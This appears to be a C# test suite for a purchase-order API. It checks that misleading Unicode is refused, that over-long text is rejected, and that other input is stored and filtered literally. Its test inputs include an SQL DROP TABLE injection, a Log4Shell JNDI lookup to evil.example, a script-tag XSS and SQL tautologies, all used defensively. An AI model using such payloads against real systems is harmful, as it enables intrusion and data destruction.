namespace Host.Tests.Abuse;

using System.Net;
using System.Text.Json;
using Host.Tests.Routes;

/// <summary>Texts of a caller: refused when they do not show what they say, and otherwise just texts, whatever they look like.</summary>
internal sealed class TextStories
{
    private Api api = null!;
    private string supplier = "";
    private IReadOnlyList<Call> changes = [];

    [OneTimeSetUp]
    public async Task Start()
    {
        api = await Api.Start(onPostgres: true);
        supplier = await api.Supplier();
        changes = await RouteSamples.PrepareAll(api, Route.Changes);
    }

    [OneTimeTearDown]
    public ValueTask Stop() => api.DisposeAsync();

    private static readonly string[] Misleading =
    [
        .. Enumerable.Range(0, 0x20).Select(c => $"a{(char)c}b"),
        .. Enumerable.Range(0x7F, 0x21).Select(c => $"a{(char)c}b"),
        .. "\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069\u200E\u200F\u061C".Select(c => $"a{c}b"),
        .. "\u200B\u200C\u200D\u2060\u2061\uFEFF\u00AD\u180E\u2028\u2029\uFFFD\uFFFE\uE000".Select(c => $"a{c}b"),
        .. "\u034F\u115F\u1160\u17B4\u17B5\u2800\u3164\uFFA0".Select(c => $"a{c}b"),
        "a\U000E0041b",
        "\u0301alice",
        " \u0301alice",
        "a \u20DDb",
        "\u093Ea",
        "a" + new string('\u0301', 5),
        "a" + new string('\u0489', 100 / 2),
        "\u3164",
        "\u00A0\u2003\u3000",
    ];

    [TestCaseSource(nameof(Misleading))]
    public async Task A_misleading_text_is_refused_wherever_it_is_written(string text)
    {
        foreach (var call in changes.Where(call => call.Body is not null))
        foreach (var place in JsonPlaces.Of(call.Body!).Where(place => place.Kind == JsonValueKind.String))
            await IsRefused(call, place.Path, text);
    }

    /// <summary>Normalised, each of these becomes two or three: as many as are stored at the most do not fit any more.</summary>
    [TestCase("\u0958", 1)]
    [TestCase("\uFB2C", 1)]
    [TestCase("\U0001D15E", 2)]
    public async Task A_text_that_normalisation_makes_too_long_is_refused(string character, int units)
    {
        foreach (var call in changes)
        foreach (var (path, longest) in call.Sample.Texts)
            await IsRefused(call, path, string.Concat(Enumerable.Repeat(character, longest / units)));
    }

    [Test]
    public async Task A_text_of_the_greatest_length_is_taken_and_one_more_is_not()
    {
        foreach (var sample in changes)
        foreach (var (path, longest) in sample.Sample.Texts)
        {
            var call = await RouteSamples.Prepare(api, sample.Route);
            await IsRefused(call, path, new string('a', longest + 1));
            var taken = await call.SendBody(JsonPlaces.With(call.Body!, path, new string('a', longest)));
            Assert.That((int)taken.Status, Is.InRange(200, 299), $"{call.Route} {path}: {taken.Body}");
        }
    }

    [TestCase("O'Neil\"; DROP TABLE purchasing.purchase_orders; --")]
    [TestCase("100% _ \\ [a-z] *")]
    [TestCase("${jndi:ldap://evil.example/a} {0} {{1}} %s %n")]
    [TestCase("<script>alert(1)</script>&amp;")]
    [TestCase("{\"level\":\"fatal\"}")]
    [TestCase("=HYPERLINK(\"x\")")]
    [TestCase("บริษัท สยามเปเปอร์ จำกัด ที่ตั้ง")]
    [TestCase("नमस्ते क्षत्रिय")]
    [TestCase("שָׁלוֹם")]
    [TestCase("Đặng Thị Ngọc 漢字 🙂")]
    public async Task Any_other_text_comes_back_as_it_was_sent(string text)
    {
        text = text.Normalize();
        var created = await api.Bob.Post("/purchase-orders", Order(requester: text, sku: text, description: text));
        Assert.That(created.Status, Is.EqualTo(HttpStatusCode.Created), created.Body);
        var read = (await api.Bob.Get($"/purchase-orders/{created.Text("id")}")).Json;
        var found = (await api.Bob.Get($"/purchase-orders?requested_by={Uri.EscapeDataString(text)}")).Json;

        var line = read.GetProperty("line_items")[0];
        Assert.That(read.GetProperty("requested_by").GetString(), Is.EqualTo(text));
        Assert.That((line.GetProperty("sku").GetString(), line.GetProperty("description").GetString()), Is.EqualTo((text, text)));
        Assert.That(
            found.GetProperty("items").EnumerateArray().Select(item => item.GetProperty("id").GetString()),
            Is.EqualTo(new[] { created.Text("id") })
        );
    }

    [Test]
    public async Task A_decomposed_name_and_a_composed_one_are_the_same()
    {
        var created = await api.Bob.Post("/purchase-orders", Order(requester: "Zoe\u0308"));
        var found = (await api.Bob.Get("/purchase-orders?requested_by=Zoe%CC%88")).Json.GetProperty("items");

        Assert.That(created.Text("requested_by"), Is.EqualTo("Zo\u00EB"));
        Assert.That(found.GetArrayLength(), Is.EqualTo(1));
        Assert.That(found[0].GetProperty("requested_by").GetString(), Is.EqualTo("Zo\u00EB"));
    }

    /// <summary>Each is a requester of one order; a pattern would match others too.</summary>
    [Test]
    public async Task A_filter_matches_literally()
    {
        foreach (var requester in new[] { "literal", "liter%", "liter__", "liter\\l", "liter'l", "LITERAL" })
            Assert.That((await api.Bob.Post("/purchase-orders", Order(requester))).Status, Is.EqualTo(HttpStatusCode.Created));

        foreach (
            var (sought, count) in new[]
            {
                ("literal", 1),
                ("liter%", 1),
                ("liter__", 1),
                ("liter\\l", 1),
                ("liter'l", 1),
                ("LITERAL", 1),
                ("%", 0),
                ("_______", 0),
                ("' OR '1'='1", 0),
                ("literal' --", 0),
            }
        )
        {
            var found = await api.Bob.Get($"/purchase-orders?requested_by={Uri.EscapeDataString(sought)}");
            Assert.That(found.Json.GetProperty("items").GetArrayLength(), Is.EqualTo(count), sought);
        }
        foreach (var code in new[] { "%25", "TH-______", "TH-100001'%20OR%20'a'%3D'a" })
            Assert.That((await api.Sam.Get($"/suppliers?code={code}")).Status, Is.EqualTo(HttpStatusCode.BadRequest));
    }

    private static async Task IsRefused(Call call, string path, string text)
    {
        var reply = await call.SendBody(JsonPlaces.With(call.Body!, path, text));

        Assert.That(
            (reply.Status, string.Join(',', reply.Fields)),
            Is.EqualTo((HttpStatusCode.UnprocessableEntity, path)),
            $"{call.Route}: {reply.Body}"
        );
    }

    private string Order(string requester = "alice", string sku = "OFF-0001", string description = "Paper") =>
        JsonSerializer.Serialize(
            new
            {
                supplier_id = supplier,
                requested_by = requester,
                line_items = new[]
                {
                    new
                    {
                        sku,
                        description,
                        quantity = 1,
                        unit_price_cents = 1,
                        currency = "USD",
                    },
                },
            }
        );
}
